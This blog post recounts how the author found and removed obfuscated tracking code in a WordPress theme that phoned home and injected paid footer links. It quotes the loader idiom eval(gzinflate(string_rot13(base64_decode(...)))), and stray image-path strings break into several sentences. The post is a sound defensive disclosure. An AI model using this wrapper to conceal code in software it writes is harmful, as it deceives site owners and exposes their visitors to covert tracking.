Suppose your friend wanted to install a video camera on your car. The video camera would only be able to see the treads of your tires as part of a study. He could only tell from this feed the depth of the treads of your tires. Nothing more, nothing less. Would you be particularly offended by this? Odds are probably not, this information is pretty benign. But what if this was a complete stranger who wanted to put the camera on your car? You’d probably be very wary of it, and inspect the camera to make sure it did exactly what he said it does. Fair enough, as the information is still pretty benign and he waspretty honest about it to begin with.

Now consider you walked outside, and one day found a video camera watching your tires just sitting there. You’ve had the car for years, you don’t know where the information is going, and you have no idea how the camera got there. And to boot, it looks like someone attempted to hide the camera — poorly.Perhaps by covering it with some clear tape or something. You’d be pretty pissed that someone did this, right?

I’ve been having issues from time to time with this blog. Randomly, the sidebars on the right load very slowly as compared to the rest of the document. I got really curious as to why the other day when it was happening again, and so I decided to figure it out. I had a suspicion that it was the mysql database, but I wanted to make sure. So I started an strace on the http daemon, and refreshed the page. I really was quite pissed at what I saw next. There was an outgoing http connection I’d never seen to a website I’d never heard of before. The connection was made moments after a gigantic glob of data was read from a php file on the filesystem. It started with eval(gzinflate(string_rot13(base64_decode(…………))))and at this point, I knew I was in trouble. It was hidden code I wasn’t supposed to see running on my website.

See, when I first got this blog, I started by finding a nice theme. I did eventually come across the one you see now, and I liked it. A tad bit land-of-the-rising-sunny for me, but whatever, it did look nice. So I installed it. There were some plugs down the bottom of the page, one my friend even asked me about. He said, “dude, what’s with the plug for Burt’s Bee’s?”. I said, “I dunno, but the author of the document put it there, and he did ask that I not remove it, so I left it.” I swear I did the honest thing!

But then I see the camera pointing at my tires that I’d never authorized. The outgoing HTTP connection, that is. I quickly edited /etc/hosts and changed the hostname it was looking for to address I refreshed the page. What happened? The footer and all the plugs (Burt’s Bees included) disappeared. The outgoing connection was actually quite legit. I wrote a quick php script myself to parse the output of the several layers of evaluations of random blocks of data. SEVENTY-ONE EVALUATIONS LATER, I attained the source code. It is a large user-agent tracking system. I’ve left the source code [right here].

So, I hate to inform you, but if you’ve visited this site in the past month or so, you have had some of your more public information read in by some stranger on the internet. No worries, the information wascompletely benign, simple stuff like your browser version and operating system type, hence the reference to tire tread. It’s stuff that I really wouldn’t have cared too much about the author collecting… if only he had just ASKED!. So now I found out that the entire footer of the page was actually coming from his server, which could mean simply one thing – Burt’s Bees is PAYING for this kind of shady advertising. That’s a horrible business practice!

In response, I’ve removed the offending code and published it in the link above. I’ve also blackhole routed any traffic from the offending website. The name of the theme,by the way, is SoulVision, and I actually did get it from a reputable repository of quality wordpress themes. As someone in the security field, I recognize that this could have been much worse than it was, and I realize just how lucky I am that it wasn’t. I guess my moral for the day is to always verify codethat’s going into production on a locked down server. Oh, that, and I’ll probably never buy Burt’s Bees. Ever. End ‘o discussion on ethics.